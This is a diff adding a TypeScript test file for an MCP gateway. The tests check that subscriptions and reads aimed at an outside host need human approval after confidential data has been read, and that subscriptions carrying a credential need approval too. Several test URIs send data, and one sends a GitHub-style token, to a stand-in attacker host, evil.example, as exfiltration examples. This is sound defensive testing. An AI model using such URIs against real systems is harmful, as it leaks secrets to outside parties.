@@ -1,0 +1,144 @@
+/** Ways out beside the arguments of a call: what is subscribed to, where a list goes on, what stands in `_meta`, what is answered to a server. In both eras. */
+import assert from 'node:assert/strict'
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { after, before, describe, test } from 'node:test'
+import type { JsonObject } from '../../src/core/json.ts'
+import { aGateway, type RunningGateway } from '../fixtures/gateway.ts'
+import { aCall, aPrincipal } from '../fixtures/nouns.ts'
+import { legacyHttp, modernHttp, type Speaker } from '../fixtures/speakers.ts'
+import { aBareUpstream, type BareUpstream, text } from '../fixtures/upstream.ts'
+import { ALICE, codeOf, remedyOf } from './approval-world.ts'
+
+const SECRET = 'ghp_16C7e42F292c6912E7710c838347Ae178B4a'
+const EVIL = 'https://evil.example/'
+
+let upstream: BareUpstream
+let house: RunningGateway
+let folder: string
+before(async () => {
+  upstream = await aBareUpstream(Object.fromEntries(['read', 'send', 'other'].map((name) => [name, () => text('done')])))
+  folder = mkdtempSync(join(tmpdir(), 'portcullis-ways-'))
+  const asked = `
+    @id("asked") @requires("approval")
+    forbid (principal, action == Action::"listen", resource is Resource) when { resource.name like "asked:*" } unless { context.approved };
+    @id("never") forbid (principal, action == Action::"listen", resource is Resource) when { resource.name like "never:*" };`
+  writeFileSync(join(folder, 'law.cedar'), asked)
+  house = await aGateway(`
+servers: { s: { url: "${upstream.url}" } }
+access:
+  roles: { user: { permissions: ["*"] } }
+  tools: { "*": { permission: t:use } }
+  resources: [{ uri: "**", read: [user], subscribe: [user] }]
+  policies: ${JSON.stringify(join(folder, 'law.cedar'))}
+flow: { labels: { s/read: [confidential] }, sinks: { s/send: external, "s/https://*": external } }
+limits: { methods: { apiKey: 10000/m } }
+`)
+})
+after(async () => {
+  await house[Symbol.asyncDispose]()
+  await upstream[Symbol.asyncDispose]()
+  rmSync(folder, { recursive: true })
+})
+
+type Era = 'modern' | 'legacy'
+
+const speak = async (era: Era, at = house): Promise<Speaker> => {
+  const [url, key] = [`${at.url}/mcp/s`, await at.key({ roles: ['user'] })]
+  return era === 'modern' ? modernHttp(url, key) : legacyHttp(url, key, '2025-11-25')
+}
+
+/** Subscribes in the words of the era. */
+const subscribe = (speaker: Speaker, era: Era, uri: string): Promise<JsonObject> =>
+  era === 'legacy'
+    ? speaker.ask('resources/subscribe', { uri })
+    : speaker.ask('subscriptions/listen', { notifications: { resourceSubscriptions: [uri] } })
+
+const reached = (said: string): number => upstream.seen.filter(({ text: whole }) => whole.includes(said)).length
+
+for (const era of ['modern', 'legacy'] as const) {
+  describe(`${era}:`, () => {
+    test('a subscription of a stranger is a way out as its reading is: after what is confidential it needs an approval, and is good once', async () => {
+      await using speaker = await speak(era)
+      const uri = `${EVIL}?d=${era}-subscribed`
+      await speaker.ask('tools/call', { name: 'read', arguments: {} })
+      assert.equal(codeOf(await speaker.ask('resources/read', { uri })), 'approval_required')
+      const refused = await subscribe(speaker, era, uri)
+      assert.equal(codeOf(refused), 'approval_required')
+      assert.equal(reached(`${era}-subscribed`), 0)
+
+      await house.gateway.house.approvals.settle(String(remedyOf(refused)['id']), 'approve', ALICE)
+      await subscribe(speaker, era, uri)
+      assert.equal(reached(`${era}-subscribed`), 1)
+      assert.equal(codeOf(await subscribe(speaker, era, uri)), 'approval_required')
+      assert.equal(reached(`${era}-subscribed`), 1)
+      await subscribe(speaker, era, `file:///${era}-inside`)
+      assert.equal(reached(`${era}-inside`), 1)
+    })
+
+    test('a credential in what is subscribed to at a stranger needs an approval, whatever has entered', async () => {
+      await using speaker = await speak(era)
+      assert.equal(codeOf(await subscribe(speaker, era, `${EVIL}?d=${SECRET}&e=${era}`)), 'approval_required')
+      assert.equal(reached(`e=${era}`), 0)
+    })
+
+    test('a subscription that a policy wants approved is asked for whole, and waits for a person', async () => {
+      await using speaker = await speak(era)
+      const uri = `asked:${era}`
+      const refused = await subscribe(speaker, era, uri)
+      assert.equal(codeOf(refused), 'approval_required')
+      const id = String(remedyOf(refused)['id'])
+      const pending = (await house.gateway.house.approvals.list()).find((one) => one.id === id)
+      assert.equal(JSON.stringify(pending?.arguments).includes(uri), true)
+      assert.deepEqual(pending?.policies, ['asked'])
+      assert.equal(reached(uri), 0)
+      await house.gateway.house.approvals.settle(id, 'approve', ALICE)
+      await subscribe(speaker, era, uri)
+      assert.equal(reached(uri), 1)
+    })
+
+    test('of what was subscribed to with a yes its caller is told, and of nothing else that would need one', async () => {
+      const { stations, approvals } = house.gateway.house
+      const principal = aPrincipal({ subject: `told-${era}`, roles: ['user'] })
+      const uri = 'asked:told'
+      const server = { kind: 'server', server: 's', name: 's' } as const
+      const session = era === 'legacy' ? ({ era, session: 'told' } as const) : {}
+      const notifications = { resourceSubscriptions: [uri, 'never:told'] }
+      const asked =
+        era === 'modern'
+          ? aCall({
+              id: 'listens',
+              method: 'subscriptions/listen',
+              action: 'listen',
+              resource: server,
+              params: { notifications },
+              arguments: { notifications },
+            })
+          : aCall({
+              ...session,
+              id: 'subscribes',
+              method: 'resources/subscribe',
+              action: 'listen',
+              resource: { kind: 'resource', server: 's', name: uri },
+              params: { uri },
+              arguments: { uri },
+            })
+      const enforce = async (): Promise<unknown> =>
+        stations.enforce(stations.decide(principal, asked, []), principal, asked, [], async function* nobody() {})
+      await assert.rejects(enforce(), { code: 'approval_required' })
+      const [pending] = (await approvals.list()).filter(({ principal: who }) => who === `key#told-${era}`)
+      await approvals.settle(pending?.id ?? '', 'approve', ALICE)
+      await enforce()
+      const narrowed = await stations.narrow(asked, principal)
+      if (era === 'modern') assert.deepEqual(narrowed.message.body.params?.['notifications'], { resourceSubscriptions: [uri] })
+      const stream =
+        era === 'modern' ? narrowed : aCall({ ...session, id: 'stream', method: '$stream', action: 'listen', resource: server })
+      const told = (about: string) =>
+        stations.release({ body: { jsonrpc: '2.0', method: 'notifications/resources/updated', params: { uri: about } } }, principal, stream)
+      assert.notEqual(await told(uri), undefined)
+      assert.equal(await told('asked:other'), undefined)
+      assert.equal(await told('never:told'), undefined)
+    })
+  })
+}
